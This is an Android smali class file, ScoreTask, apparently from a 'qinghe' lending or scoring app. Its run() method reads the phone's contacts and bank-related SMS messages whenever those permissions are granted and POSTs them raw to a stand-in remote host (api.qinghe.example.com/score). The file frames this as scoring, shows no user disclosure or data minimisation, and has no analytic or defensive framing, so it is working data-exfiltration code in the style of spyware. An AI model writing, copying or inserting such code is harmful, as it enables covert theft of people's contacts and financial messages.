# SPDX-License-Identifier: Apache-2.0
# Reads what was granted and sends it for scoring with OkHttp (the library itself is not in the
# package; the code only refers to it).
.class public Lcom/example/qinghe/ScoreTask;
.super Ljava/lang/Object;
.source "ScoreTask.java"
.implements Ljava/lang/Runnable;

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/qinghe/ScoreTask;->context:Landroid/content/Context;
    return-void
.end method

.method public run()V
    .locals 3
    iget-object v0, p0, Lcom/example/qinghe/ScoreTask;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    const-string v2, "android.permission.READ_CONTACTS"
    invoke-virtual {v0, v2}, Landroid/content/Context;->checkSelfPermission(Ljava/lang/String;)I
    move-result v2
    if-nez v2, :sms
    invoke-static {v1}, Lcom/example/qinghe/Records;->contacts(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v2
    invoke-static {v2}, Lcom/example/qinghe/ScoreTask;->send(Ljava/lang/String;)V
    :sms
    const-string v2, "android.permission.READ_SMS"
    invoke-virtual {v0, v2}, Landroid/content/Context;->checkSelfPermission(Ljava/lang/String;)I
    move-result v2
    if-nez v2, :done
    invoke-static {v1}, Lcom/example/qinghe/Records;->bankMessages(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v2
    invoke-static {v2}, Lcom/example/qinghe/ScoreTask;->send(Ljava/lang/String;)V
    :done
    return-void
.end method

.method private static send(Ljava/lang/String;)V
    .locals 4
    :try_start
    const/4 v0, 0x0
    invoke-static {v0, p0}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
    move-result-object v0
    new-instance v1, Lokhttp3/Request$Builder;
    invoke-direct {v1}, Lokhttp3/Request$Builder;-><init>()V
    const-string v2, "https://api.qinghe.example.com/score"
    invoke-virtual {v1, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
    move-result-object v1
    invoke-virtual {v1, v0}, Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
    move-result-object v1
    invoke-virtual {v1}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
    move-result-object v1
    new-instance v2, Lokhttp3/OkHttpClient;
    invoke-direct {v2}, Lokhttp3/OkHttpClient;-><init>()V
    invoke-virtual {v2, v1}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
    move-result-object v2
    invoke-interface {v2}, Lokhttp3/Call;->execute()Lokhttp3/Response;
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
